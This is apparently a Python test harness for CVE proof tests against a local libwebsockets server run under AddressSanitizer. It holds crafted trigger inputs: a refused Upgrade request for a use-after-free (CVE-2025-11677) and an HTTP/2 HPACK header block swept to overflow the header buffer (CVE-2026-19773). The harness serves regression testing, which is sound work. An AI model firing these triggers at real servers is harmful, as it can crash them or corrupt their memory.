"""Crafted inputs for the CVE proof tests, sent to lws-cve-server (lwsbuild/build/harness/cve_server.c) on
127.0.0.1. Every connect, send and read is bounded in time; every loop in count.
"""

from __future__ import annotations

import os
import re
import signal
import socket
import struct
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SANITIZER_REPORT = re.compile(r"ERROR: AddressSanitizer: (\S+)|runtime error: (.*)")


@dataclass
class ServerRun:
    returncode: int | None
    stderr: str

    @property
    def finding(self) -> str | None:
        match = SANITIZER_REPORT.search(self.stderr)
        return match.group(1) or match.group(2) if match else None


class CveServer:
    """bin/lws-cve-server of a prefix, under its own sanitizer; `port` once it listens."""

    def __init__(self, prefix: Path, mode: str, seconds: int = 60) -> None:
        env = dict(os.environ, ASAN_OPTIONS="halt_on_error=1:detect_leaks=0:abort_on_error=0",
                   UBSAN_OPTIONS="print_stacktrace=1")
        env.pop("LD_PRELOAD", None)
        self.proc = subprocess.Popen([str(prefix / "bin" / "lws-cve-server"), mode, str(seconds)], env=env,
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None and self.proc.stderr is not None  # both PIPE
        line = self.proc.stdout.readline()  # "port N", or EOF if it failed to start
        match = re.fullmatch(r"port (\d+)\n", line)
        if not match:
            self.proc.kill()
            raise RuntimeError(f"lws-cve-server did not start: {line!r} {self.proc.stderr.read()[-2000:]}")
        self.port = int(match.group(1))

    def alive(self) -> bool:
        return self.proc.poll() is None

    def stop(self, timeout: float = 30) -> ServerRun:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        try:
            _, err = self.proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            _, err = self.proc.communicate(timeout=10)
        return ServerRun(self.proc.returncode, err)


def h2_answered(data: bytes) -> bool:
    """The server answered the request (HEADERS on a stream, RST_STREAM or GOAWAY), not only its
    SETTINGS: closing earlier would reset the connection before lws read the whole request."""
    pos = 0
    while pos + 9 <= len(data):
        length, kind = int.from_bytes(data[pos:pos + 3], "big"), data[pos + 3]
        if kind in (0x1, 0x3, 0x7):
            return True
        pos += 9 + length
    return False


def exchange(port: int, *payloads: bytes, timeout: float = 3.0, quiet: float = 0.3,
             answered: Callable[[bytes], bool] | None = None) -> bytes:
    """Send each payload in turn on one connection, after the answer to the one before: read until
    the peer closes, `answered(bytes read)` says the answer is complete, the peer goes quiet for
    `quiet` s, or `timeout` passes. Returns everything read."""
    got = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            for payload in payloads:
                sock.sendall(payload)
                deadline = time.monotonic() + timeout
                sock.settimeout(quiet)
                while time.monotonic() < deadline and len(got) < 1 << 20:
                    try:
                        chunk = sock.recv(65536)
                    except TimeoutError:
                        break
                    if not chunk:
                        return got
                    got += chunk
                    if answered is not None and answered(got):
                        break
    except OSError:
        pass  # a server killed by its sanitizer resets the connection: the stderr report tells
    return got


# --- CVE-2025-11677: an Upgrade the server refuses ---------------------------------------------

def keepalive_request() -> bytes:
    """A plain HTTP/1.1 GET: its answer leaves the connection keep-alive."""
    return b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


def refused_upgrade_request() -> bytes:
    """Sent as the second request of a keep-alive connection, on its own: the 403's transaction
    completion then frees the header table the upgrade name points into (CVE-2025-11677)."""
    return (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\n"
            b"Upgrade: lwsbuild-not-a-protocol\r\n\r\n")


# --- CVE-2026-19773: an HPACK header block that fills the header buffer to its end -------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes(out + [value])


def _literal(name_index: int, value: bytes) -> bytes:
    """Literal header field without indexing, name from the static table, raw (not Huffman) value."""
    return _hpack_int(name_index, 4) + _hpack_int(len(value), 7) + value


def _literal_new_name(name: bytes, value: bytes) -> bytes:
    return b"\x00" + _hpack_int(len(name), 7) + name + _hpack_int(len(value), 7) + value


def oversized_headers_request(filler: int) -> bytes:
    """h2 (prior knowledge): GET / whose user-agent value is `filler` bytes long, then a literal
    known header name ("accept"). lws's h1 name parser stores the name (and the ':' it adds) in the
    same header buffer, so for one `filler` per start offset the name ends exactly at the buffer's
    end and the first value byte is written past it (CVE-2026-19773)."""
    block = (b"\x82\x86\x84"  # :method GET, :scheme http, :path /
             + _literal(58, b"a" * filler)  # user-agent (static index 58)
             + _literal_new_name(b"accept", b"x"))
    return (PREFACE + _frame(0x4, 0, 0, b"")  # SETTINGS (empty)
            + _frame(0x1, 0x4 | 0x1, 1, block))  # HEADERS, END_HEADERS | END_STREAM, stream 1


# lws's default header buffer (max_http_header_data) is 4096 bytes: "accept:" is 7 of them, the
# filler's NUL 1, and what lws stores for the pseudo-headers before it a few more (4.3.5: 11, so
# the overflow comes at filler 4077; above it the filler itself or the name does not fit and lws
# refuses cleanly). The sweep starts where nothing fits and goes down by one.
HPACK_FILLERS = range(4095, 3990, -1)
